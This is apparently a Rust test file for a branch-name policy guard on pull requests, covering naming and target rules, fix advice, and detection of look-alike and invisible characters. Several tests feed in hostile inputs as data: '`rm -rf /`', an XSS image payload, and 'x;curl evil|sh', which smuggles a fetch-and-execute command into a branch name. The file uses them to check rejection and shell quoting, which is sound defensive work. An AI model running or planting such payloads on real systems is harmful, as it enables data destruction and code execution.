use super::*;
use crate::policy::Policy;

/// Both branch gates' outcomes, by name.
struct Decided {
    naming: GateOutcome,
    target: GateOutcome,
}

fn decide(input: &GuardInput) -> Decided {
    let mut outcomes = evaluate(*input).into_iter();
    let naming = outcomes.next().unwrap();
    let target = outcomes.next().unwrap();
    assert_eq!(
        (naming.gate, target.gate),
        ("naming_convention", "target_policy")
    );
    assert!(outcomes.next().is_none());
    Decided { naming, target }
}

fn decide_with(policy: &Policy, head: &str, base: &str) -> Decided {
    decide(&GuardInput {
        pr_number: 7,
        head,
        base,
        previous_base: None,
        policy: &policy.branches,
        policy_source: &policy.source,
    })
}

fn verdicts(d: &Decided) -> (&'static str, &'static str) {
    (d.naming.verdict.as_str(), d.target.verdict.as_str())
}

#[test]
fn default_policy_accepts_the_seed_examples() {
    let p = Policy::default_policy();
    for (head, base) in [
        ("feature/devops/PBI-001-login", "develop"),
        ("chore/ci/PBI-42-bump-rust", "develop"),
        ("hotfix/INC-123-db-timeout", "main"),
        ("hotfix/BUG-9-crash", "develop"),
    ] {
        assert_eq!(
            verdicts(&decide_with(&p, head, base)),
            ("PASS", "PASS"),
            "{head} -> {base}"
        );
    }
}

#[test]
fn a_head_no_rule_matches_fails_both_gates() {
    let d = decide_with(&Policy::default_policy(), "changes", "master");
    assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
    insta::assert_snapshot!(d.naming.timeline_message(), @r#"Branch "changes" matches no naming rule of the default policy. Allowed: feature/<area>/PBI-<n>-<slug> → develop; chore/<area>/PBI-<n>-<slug> → develop; hotfix/INC-<n>-<slug> or hotfix/BUG-<n>-<slug> → main, develop. Fix: rename the branch and open a new pull request into "develop" (renaming the head branch of an open pull request closes it). No policy file was found, so the default policy applies (a maintainer can write one that fits this repository's branches with: council init). Run this, replacing <area> with the area of the work (e.g. devops), <n> with the work item's number and <slug> with a short lower-case description (e.g. fix-login): `git branch -m changes 'feature/<area>/PBI-<n>-<slug>' && git push -u origin 'feature/<area>/PBI-<n>-<slug>' && git push origin --delete changes`"#);
    insta::assert_snapshot!(d.target.message.plain(), @r#"Branch "changes" matches no rule, so it may not target "master"."#);
}

#[test]
fn the_rename_advice_picks_a_rule_that_may_target_the_base() {
    let d = decide_with(&Policy::default_policy(), "fix-login", "main");
    let fix = d.naming.fix.unwrap();
    // One whole command per name the policy accepts, never a "name" holding " or ".
    insta::assert_debug_snapshot!(fix.commands, @r#"
    [
        "git branch -m fix-login 'hotfix/INC-<n>-<slug>' && git push -u origin 'hotfix/INC-<n>-<slug>' && git push origin --delete fix-login",
        "git branch -m fix-login 'hotfix/BUG-<n>-<slug>' && git push -u origin 'hotfix/BUG-<n>-<slug>' && git push origin --delete fix-login",
    ]
    "#);
    insta::assert_snapshot!(fix.advice.plain(), @r#"rename the branch and open a new pull request into "main" (renaming the head branch of an open pull request closes it). No policy file was found, so the default policy applies (a maintainer can write one that fits this repository's branches with: council init). Run one of these, replacing <n> with the work item's number and <slug> with a short lower-case description (e.g. fix-login):"#);
}

#[test]
fn a_wrong_target_says_which_targets_are_allowed_and_how_to_retarget() {
    let d = decide_with(
        &Policy::default_policy(),
        "feature/devops/PBI-001-login",
        "main",
    );
    assert_eq!(verdicts(&d), ("PASS", "FAIL"));
    insta::assert_snapshot!(d.target.timeline_message(), @r#"Branch "feature/devops/PBI-001-login" (rule feature (feature/<area>/PBI-<n>-<slug>)) may target develop, not "main". Feature work targets develop. Fix: change the base branch of this pull request to "develop" (Edit next to the title, or:) `gh pr edit 7 --base develop`"#);
}

#[test]
fn retargeting_is_mentioned() {
    let p = Policy::default_policy();
    let d = decide(&GuardInput {
        pr_number: 7,
        head: "hotfix/BUG-1-x",
        base: "main",
        previous_base: Some("develop"),
        policy: &p.branches,
        policy_source: &p.source,
    });
    assert_eq!(
        d.target.message.plain(),
        "Base \"main\" (retargeted from \"develop\") is allowed for this branch by rule hotfix \
         (hotfix/INC-<n>-<slug> or hotfix/BUG-<n>-<slug>) (targets: main, develop)."
    );
}

#[test]
fn case_sensitivity_is_explained() {
    let d = decide_with(
        &Policy::default_policy(),
        "feature/devops/pbi-001-login",
        "develop",
    );
    assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
    assert!(
        d.naming
            .message
            .plain()
            .contains("would match rule feature"),
        "{}",
        d.naming.message.plain()
    );
    let insensitive = Policy::parse(
        "branches:\n  case_sensitive: false\n  rules:\n    - pattern: \"feature/*\"\n      targets: [develop]\n",
        "p.yml",
    )
    .unwrap();
    assert_eq!(
        verdicts(&decide_with(&insensitive, "FEATURE/x", "DEVELOP")),
        ("PASS", "PASS")
    );
}

#[test]
fn exempt_heads_pass_both_gates_with_the_reason() {
    let p = Policy::parse(
        "branches:\n  exempt: [\"dependabot/**\"]\n  rules:\n    - pattern: \"feature/*\"\n      targets: [develop]\n",
        "p.yml",
    )
    .unwrap();
    let d = decide_with(&p, "dependabot/npm_and_yarn/lodash-4.17.21", "main");
    assert_eq!(verdicts(&d), ("PASS", "PASS"));
    assert!(d.naming.message.plain().contains("exempt"));
}

#[test]
fn invisible_characters_fail_even_when_a_rule_would_match() {
    let p = Policy::parse(
        "branches:\n  rules:\n    - pattern: \"**\"\n      targets: [\"**\"]\n",
        "p.yml",
    )
    .unwrap();
    let d = decide_with(&p, "feature/\u{202E}nigol", "develop");
    assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
    insta::assert_snapshot!(d.naming.message.plain(), @r#"Branch "feature/<U+202E>nigol" contains invisible or text-direction characters (U+202E at position 9), which can make one name look like another."#);
    let d = decide_with(&p, "fea\u{200B}ture", "develop");
    assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
}

#[test]
fn look_alike_letters_are_pointed_out() {
    let d = decide_with(
        &Policy::default_policy(),
        "feаture/devops/PBI-1-x",
        "develop",
    );
    assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
    assert!(
        d.naming.message.plain().contains("U+0430 at position 3"),
        "{}",
        d.naming.message.plain()
    );
}

#[test]
fn hostile_names_fail_cleanly() {
    let long = format!("feature/devops/PBI-1-{}", "a".repeat(300));
    let p = Policy::default_policy();
    for head in [
        "has space",
        "a..b",
        "feature/../PBI-1-x",
        "`rm -rf /`",
        "<img src=x onerror=alert(1)>",
        "@everyone",
        "x|y",
    ] {
        let d = decide_with(&p, head, "develop");
        assert_eq!(verdicts(&d), ("FAIL", "FAIL"), "{head}");
    }
    // A long name that fits the grammar is still a valid name.
    assert_eq!(
        verdicts(&decide_with(&p, &long, "develop")),
        ("PASS", "PASS")
    );
}

#[test]
fn shell_metacharacters_in_names_are_quoted_in_fix_commands() {
    let d = decide_with(&Policy::default_policy(), "x;curl evil|sh", "develop");
    let fix = d.naming.fix.unwrap();
    assert_eq!(
        fix.commands[0],
        "git branch -m 'x;curl evil|sh' 'feature/<area>/PBI-<n>-<slug>' && git push -u origin \
         'feature/<area>/PBI-<n>-<slug>' && git push origin --delete 'x;curl evil|sh'"
    );
}

#[test]
fn regex_rules_without_a_readable_shape_give_generic_advice() {
    let p = Policy::parse(
        "branches:\n  rules:\n    - regex: \"release/v\\\\d+\"\n      targets: [main]\n",
        "p.yml",
    )
    .unwrap();
    let d = decide_with(&p, "release/next", "main");
    assert_eq!(verdicts(&d), ("FAIL", "FAIL"));
    assert!(d.naming.fix.unwrap().commands.is_empty());
    assert_eq!(
        verdicts(&decide_with(&p, "release/v12", "main")),
        ("PASS", "PASS")
    );
}

#[test]
fn a_policy_file_is_named_by_its_path() {
    let p = Policy::parse(
        "version: 1\nbranches:\n  rules:\n    - name: feature\n      pattern: \"feature/*\"\n      targets: [develop]\n",
        ".github/council.yml@develop",
    )
    .unwrap();
    let d = decide_with(&p, "changes", "develop");
    assert!(
        d.naming
            .message
            .plain()
            .starts_with("Branch \"changes\" matches no naming rule of .github/council.yml@develop. Allowed: feature/*"),
        "{}",
        d.naming.message.plain()
    );
}
